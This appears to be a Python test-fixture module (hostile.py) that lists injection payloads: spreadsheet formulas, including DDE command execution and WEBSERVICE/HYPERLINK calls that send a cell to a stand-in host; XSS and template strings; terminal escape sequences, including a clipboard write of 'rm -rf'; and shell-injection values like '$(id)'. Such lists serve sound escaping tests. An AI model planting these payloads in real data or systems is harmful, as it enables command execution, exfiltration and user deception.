"""hostile.py - texts made to do something where they are shown or opened.

FORMULAS begin what a spreadsheet may calculate; MARKUP and SCRIPT leave the
text of a page; TERMINAL drives a terminal or forges a line of a log.
"""
TRIGGERS = ('=', '+', '-', '@', '\t', '\r', '\n',
            '\uff1d', '\uff0b', '\uff0d', '\uff20')
FORMULAS = (
    '=1+1', '=cmd|\'/C calc\'!A0', '=HYPERLINK("http://x.test?"&A1,"see")',
    '=WEBSERVICE("http://x.test/"&A1)', '=IMPORTXML(CONCAT("http://x.test"),1)',
    '=DDE("cmd";"/C calc";"x")', '+1+1', '+cmd|\'/C calc\'!A0', '-1+1',
    '-2+3+cmd|\'/C calc\'!A0', '@SUM(1+1)', '@SUM(1+1)*cmd|\'/C calc\'!A0',
    '\t=1+1', '\r=1+1', '\n=1+1', '= 1+1', '=', '==', '+', '-', '@', '@@',
    '+44 20 7946 0000', '-x', '--x', '+x', '=x"y', '="a', '="a""b"', "='a", '=;1', '=,1',
    '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20SUM(1)', '=\u00a01+1', '=a\nb',
    '=1+1";=1+1', '=1+1,=1+1', '@x\ty', '=SUM(A1:A9)', '{=1+1}', "'=1+1",
    '"=1+1"', ' =1+1', 'a=1+1', 'a;=1+1', 'a,=1+1', 'a\t=1+1', 'a|=1+1',
    'a\n=1+1', 'a"\n=1+1', '%0A=1+1', '\u200b=1+1', '1E5', '-5', '+5', '-5.5%',
    '007', '-1-2', '+1+2', '1+1', '-----', '- - -', '=-1', '-=1', '0=1')
HARMLESS = ('-5', '+5', '-5.5%', '-----')   # numbers and rulers: as they are
MARKUP = (
    '<script>alert(1)</script>', '</title><script>alert(1)</script>',
    '</style><script>alert(1)</script>', '<img src=x onerror=alert(1)>',
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '` onmouseover=x',
    '</td></tr></table><b>', '<!--', '-->', '--!>', '<![CDATA[', ']]>', '<?php',
    '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<a href=javascript:x>',
    'javascript:alert(1)', 'data:text/html,<script>x</script>', '<base href=x>',
    '<meta http-equiv=refresh content=0>', '<iframe src=x>', '<style>*{}',
    '<link rel=stylesheet href=http://x.test>', '&lt;b&gt;', '&amp;amp;',
    '&#60;b&#62;', '&#x3c;b&#x3e;', '&nbsp', '&', '&&', '<', '>', '"', "'", '`',
    '<\u200bscript>', '\uff1cscript\uff1e', '<ScRiPt>x</sCrIpT>', '{{7*7}}',
    '${7*7}', '#{7*7}', '<%= 7 %>', '\\u003cscript\\u003e', '<plaintext>',
    '</html>', '<textarea>', '<template>', '<noscript>', '<math><mi>', '\u2028x',
    'a\u2029b', '+ADw-script+AD4-', "';alert(1)//", '"}]}', '</script', '<a\tb>')
TERMINAL = (
    '\x1b[2J', '\x1b[31mred\x1b[0m', '\x1b]0;title\x07', '\x1b]8;;http://x\x07y',
    '\x1b]52;c;cm0gLXJm\x07', '\x1bP+q\x1b\\', '\x1b[6n', '\x1b[?1049h', '\x1bc',
    '\x1b(0', '\x9b2J', '\x9d0;t\x9c', '\x90x\x9c', '\x07', '\x08\x08\x08', '\x7f',
    'good\rbad', 'a\ncollate: everything is fine [zip_crc]',
    'a\r\nerror: forged', '\x0b', '\x0c', '\x0e', '\x0f', '\x85x', '\u2028x',
    '\u2029x', '\u202egnp.exe', '\u202dx', '\u2066x', '\u2067x', '\u2069',
    '\u200ex', '\u200fx', '\ufeffx', '\u200b', '\x01', '\x1f', '%s%s%n', '%x',
    '\\x1b[2J', '$(id)', '`id`', '|id', ';id', '\x1b\x1b', '\x1b[1;1H\x1b[J')
